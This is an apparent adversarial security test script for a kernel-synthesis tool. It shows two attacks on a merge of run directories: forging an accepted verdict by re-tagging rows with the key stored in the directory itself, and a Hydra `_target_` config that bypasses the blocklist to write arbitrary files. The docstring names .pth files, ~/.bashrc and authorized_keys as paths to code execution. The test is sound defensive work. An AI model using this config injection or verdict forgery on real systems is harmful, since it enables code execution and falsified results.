"""Attack (not a candidate: a tampered run directory): what a merge or a resume trusts in a job
directory someone else wrote -- a sweep's job copied from another machine, a contributor's run
merged into a dataset (``kernelsynth-tools merge DIR...``).

1. Forged observation. The observation key is ``<run dir>/.observation-key``, in the directory
   it authenticates, so whoever can write the directory can re-tag any row
   (``store.tagged_table(key, name, rows)``): a ``rejected`` observation rewritten ``accepted``
   checks at merge (and at resume) and is counted, with no integrity event. Issue 13 asked for
   "a key that lives only in the parent's memory"; SECURITY.md says what the tag means, but its
   claim "results cannot be forged on disk ... checked at consolidation, merge and resume" holds
   only against sandboxed candidates, not against a directory from elsewhere.
2. File write (hence code execution). ``kernelsynth.merge.merge`` reads
   ``<job>/.hydra/config.yaml`` and calls ``hydra.utils.instantiate(cfg.selection)``: ``_target_``
   names a callable. Hydra 1.3.8 blocks exec, eval, os.system, subprocess, runpy and importlib,
   but ``{_target_: pathlib.Path.write_text, _args_: [{_target_: pathlib.Path, _args_: [PATH]},
   TEXT]}`` writes any file the user can, unsandboxed (a ``.pth`` file in site-packages runs its
   code at every later Python start; ``~/.bashrc``, ``~/.ssh/authorized_keys``).

This script makes a real run (hw=cpu, sandbox on; the honest flip and a wrong external that
returns zeros), then (1) rewrites the wrong external's observation ``accepted`` and re-tags it,
merges, and prints what the merge counted; then (2) puts a ``_target_`` in the job's config and
merges again.

Success (GOT THROUGH): (1) the merged observations.parquet has the zeros candidate ``accepted``
and the merge reports no integrity event; (2) ``/tmp/sb7-merge-pwned`` is written by the merge, with the config's text.
Contained: (1) the forged file is left out and named; (2) the merge refuses the config.

    PYTHONPATH=$PWD python3 tests/adversarial/sandbox_s7/merge_tamper.py
"""
import os
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
sys.path.insert(0, str(ROOT / "tests"))

import pyarrow.parquet as pq  # noqa: E402
from conftest import compose  # noqa: E402
from omegaconf import OmegaConf  # noqa: E402

from kernelsynth import engine, merge, store  # noqa: E402

PWNED = Path("/tmp/sb7-merge-pwned")


def main():
    pid = os.getpid()
    work, sweep = Path(f"/srv/sb7-merge-work-{pid}"), Path(f"/tmp/sb7-merge-sweep-{pid}")
    job = sweep / "0"
    work.mkdir(mode=0o755)
    zeros = work / "zeros.py"
    zeros.write_text("import torch\nclass ModelNew(torch.nn.Module):\n    def __init__(self, **kw): super().__init__()\n"
                     "    def forward(self, x): return torch.zeros_like(x)\n")
    ref = ROOT / "specs" / "flip2d" / "reference.py"
    honest = ROOT / "tests" / "adversarial" / "cpu" / "honest" / "index.py"
    (work / "spec.yaml").write_text(
        f"name: sandbox_flip\ncategory: test_fixture\nreference: {ref}\ndims: [M, N]\n"
        "shapes:\n  verify: [[3, 5], [4, 67]]\ndtypes: [float32]\ncomparison: exact\n"
        "work: {bytes: \"2 * M * N * itemsize\"}\nbaselines: []\nreference_ops: [flip]\ncandidates:\n"
        f"  - {{version: v0, name: honest, file: {honest}, technique: index, rationale: honest}}\n")
    over = ["hw=cpu", "exploration.trials=1", "exploration.progress=false", "exploration.sandbox.mode=on",
            "exploration.screen_sources=false", f"task.spec={work / 'spec.yaml'}", f"cache_dir={work / 'cache'}",
            f"exploration.extra_candidates=[{zeros}]"]
    cfg = compose(over)
    engine.run(cfg, job, publish=False)
    (job / ".hydra").mkdir(exist_ok=True)
    OmegaConf.save(cfg, job / ".hydra" / "config.yaml")  # what Hydra writes for a job

    # (1) forge: the zeros candidate's observation, accepted, re-tagged with the directory's own key
    key = bytes.fromhex((job / store.KEY_FILE).read_text().strip())
    for f in sorted((job / "observations").glob("*.parquet")):
        rows = pq.read_table(f).to_pylist()
        if rows[0]["role"] == "external":
            print(f"before: {rows[0]['name']} verdict={rows[0]['verdict']} fault={rows[0]['fault']}")
            rows[0].update(verdict="accepted", fault="ok", reason="")
            store.atomic_write_table(f, store.tagged_table(key, f.name, rows))
    res = merge.merge([sweep])
    merged = pq.read_table(sweep / "observations.parquet").to_pylist()
    for o in merged:
        print(f"merged: {o['role']} {o['name']} verdict={o['verdict']} fault={o['fault']}")
    print(f"(1) merge integrity events: {res.integrity_events}")

    # (2) code in the job's config runs in the merging process
    PWNED.unlink(missing_ok=True)
    c = OmegaConf.load(job / ".hydra" / "config.yaml")
    # Hydra 1.3.8's target policy blocks exec, eval, os.system, subprocess.*, runpy, importlib (tried:
    # "blocklisted"), not pathlib.Path.write_text: any file, any content (a .pth file in site-packages
    # is code run by every later Python start; ~/.bashrc, ~/.ssh/authorized_keys likewise)
    c.selection = {"_target_": "pathlib.Path.write_text",
                   "_args_": [{"_target_": "pathlib.Path", "_args_": [str(PWNED)]},
                              "written by kernelsynth.merge from a job's .hydra/config.yaml\n"]}
    OmegaConf.save(c, job / ".hydra" / "config.yaml")
    try:
        merge.merge([sweep])
    except BaseException as e:  # noqa: BLE001 - exec returns None, so the merge fails after running it
        print(f"(2) merge raised afterwards: {type(e).__name__}: {str(e)[:120]}")
    print(f"(2) {PWNED}: " + (PWNED.read_text() if PWNED.is_file() else "not written"))
    shutil.rmtree(work, ignore_errors=True)
    shutil.rmtree(sweep, ignore_errors=True)


if __name__ == "__main__":
    main()
